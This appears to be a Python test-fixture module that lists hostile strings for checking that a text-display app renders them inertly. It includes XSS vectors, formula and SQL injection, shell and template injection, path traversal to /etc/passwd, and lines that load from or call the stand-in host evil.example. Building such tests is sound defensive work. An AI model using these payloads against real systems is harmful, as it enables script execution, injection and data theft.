"""Texts that people hide in corpora, names and links: what a page would obey if it did not show it as text."""

_MARKDOWN = r"""
**bold**
__bold__
_it_
***both***
~~gone~~
`code`
```code```
# heading
###### heading
- item
* item
+ item
1. item
> quote
---
===
[link](http://evil.example/a)
[link](javascript:alert(1))
[link](<javascript:alert(1)>)
[link](java&#115;cript:alert(1))
[link](data:text/html;base64,PHNjcmlwdD4=)
[link](vbscript:msgbox)
[ref]: http://evil.example/ref
[text][ref]
![i](http://evil.example/i.png)
![i](//evil.example/i.png)
![](http://evil.example/i.png "t")
[![i](http://evil.example/i.png)](http://evil.example/)
<http://evil.example/auto>
<javascript:alert(1)>
http://evil.example/bare
https://evil.example/?q=1&r=2#x
www.evil.example
ftp://evil.example/f
//evil.example/x
mailto:a@evil.example
someone@evil.example
|a|b|
- [ ] task
- [x] task
term[^1]
[^1]: note
a\*b\*c
\\**x\\**
&lt;b&gt;
&#60;b&#62;
&amp;copy; &copy;
*a_b*c_d
** not bold **
""".strip().splitlines()

_STREAMLIT = r"""
:smile:
:+1:
:material/home:
:material/delete_forever:
:streamlit:
:red[red]
:blue-background[x]
:red-badge[x]
:rainbow[x]
:small[x]
:shortcode:
:orange[:material/home:]
->
<-
-->
<->
--
>=
<=
~=
!=
$x^2$
$$\frac{1}{0}$$
\(x\)
\[x\]
$\href{javascript:alert(1)}{x}$
$\includegraphics{http://evil.example/l.png}$
\input{/etc/passwd}
\write18{id}
100$ and 200$
""".strip().splitlines()

_HTML = r"""
<b>bold</b>
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=http://evil.example/s.js></script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=http://evil.example/i.png>
<img/src="http://evil.example/i.png"/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href="http://evil.example/i.svg"/></svg>
<iframe src=http://evil.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=http://evil.example/o>
<embed src=http://evil.example/e>
<link rel=stylesheet href=http://evil.example/c.css>
<style>*{display:none}</style>
<style>@import 'http://evil.example/c.css'</style>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=http://evil.example/v poster=http://evil.example/p>
<audio src=http://evil.example/a onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action=http://evil.example/><button>go</button></form>
<a href=javascript:alert(1)>x</a>
<a href="http://evil.example/">x</a>
<base href=http://evil.example/>
<meta http-equiv=refresh content="0;url=http://evil.example/">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<template><script>alert(1)</script></template>
<!-- comment -->
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
"onmouseover="alert(1)
' onmouseover='alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
data:text/html,<script>alert(1)</script>
<br><hr><h1>x</h1>
<table><tr><td>x</td></tr></table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<plaintext>
<title>x</title>
<textarea></textarea><script>alert(1)</script>
""".strip().splitlines()

_CODE = r"""
=1+1
=HYPERLINK("http://evil.example/","x")
=cmd|' /C calc'!A0
+1+1
-1+1
@SUM(1)
=IMPORTXML("http://evil.example/","//a")
'; DROP TABLE passages; --
" OR 1=1 --
' OR '1'='1
1; ATTACH DATABASE 'x' AS y
%' AND 1=1 --
title = 'x' or true
year >= 0 and (
not not not
topic = 0
tag contains ''
`column` = 1
{{7*7}}
{{config.items()}}
${7*7}
#{7*7}
<%= 7*7 %>
{% raw %}
{0.__class__}
%s%s%s%n
%(name)s
%x %d
$(id)
`id`
; id
| id
&& id
> /tmp/out
*
?
~
~root
../../etc/passwd
..\..\windows\system32
/etc/passwd
file:///etc/passwd
\\evil.example\share
C:\con\con
CON
nul
.
..
-rf
--help
-
%00
%2e%2e%2f
%0d%0aSet-Cookie: x=1
%c0%ae
null
None
NaN
Infinity
-0
1e999
true
undefined
[object Object]
__proto__
constructor
toString
__class__
[]
{}
{"a": 1}
{"$ne": null}
"quoted"
'single'
back\slash
trailing\
a,b;c|d
(((((((((((((((((((((((((((((((((((((((((((((((((
[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[
<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<
*************************************************
""".strip().splitlines()

_UNICODE = [
    "user\u202etxt.exe",
    "\u202dforced",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200fright \u200eleft \u061carabic",
    "zero\u200bwidth\u200djoiner\ufeff",
    "word\u2060joiner",
    "\u00a0no break\u00a0",
    "line\u2028and\u2029paragraph",
    "next\u0085line",
    "e\u0301\u0302\u0303\u0304" * 12,
    "Z" + "\u0335\u0321\u0322\u0327" * 30,
    "👩\u200d👩\u200d👧 🏳️\u200d🌈 🇩🇪",
    "东京 Ωμέγα кириллица עברית العربية",
    "раураl.com",
    "ｆｕｌｌｗｉｄｔｈ ＜ｂ＞",
    "ﷺ ﷽",
    "İıßŸ ǅ",
    "𝒳 𝔘𝕟𝕚 𐍈",
    "\ue000\uf8ff private",
    "\ufffe\uffff\U0010ffff",
    "\U000e0041\U000e0042 tags",
    "\ufff9a\ufffab\ufffb",
    "tab\tbed",
    "two\nlines",
    "windows\r\nlines",
    "old\rlines",
    "\n\n\nlate",
    "    indented code",
    "a\n# heading\n- item\n",
    "a\n\n|a|b|\n|-|-|\n|1|2|\n",
    "two  \nspaces",
    " leading and trailing ",
    "\u3000ideographic\u3000",
]

_CONTROL = [
    f"control{chr(code)}{code:02x}" for code in (1, 7, 8, 11, 12, 14, 27, 28, 31, 127, 128, 144, 155, 159)
]
_TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2Jclear",
    "\x9b31m",
    "\x1b]8;;http://evil.example/\x07x\x1b]8;;\x07",
]
_LONG = [
    "long " * 1_000,
    "x" * 5_000,
    "<b>" * 1_500,
    "[" * 3_000,
    "*a " * 1_500,
    "![i](http://evil.example/i.png)" * 100,
    "$" * 2_000,
    "👩\u200d" * 800,
]
_MIXED = [
    "**b** <b>x</b> ![i](http://evil.example/i.png) [l](javascript:alert(1)) $x^2$ :smile: :red[x] ~~g~~ user\u202etxt",
    "</span></div><img src=http://evil.example/x.png onerror=alert(1)>**x**",
    "`<script>` ``**`` :material/home:`",
    "![x][y]\n\n[y]: http://evil.example/y.png",
    "a :red[b <img src=x onerror=alert(1)> c](http://evil.example/)",
]  # fmt: skip

# One of each kind, for tests that cost seconds each.
DOZEN = (
    _MIXED[0],
    "# heading",
    "[link](javascript:alert(1))",
    "![i](http://evil.example/i.png)",
    ":red-badge[x] :material/home: ->",
    "$\\href{javascript:alert(1)}{x}$",
    "<img src=http://evil.example/i.png onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/","x")',
    "'; DROP TABLE passages; --",
    "\u2066a\u202etxt.exe\u2069",
    "../../etc/passwd",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [*DOZEN, *_MIXED, *_MARKDOWN, *_STREAMLIT, *_HTML, *_CODE, *_UNICODE, *_CONTROL, *_TERMINAL, *_LONG]
    )
)
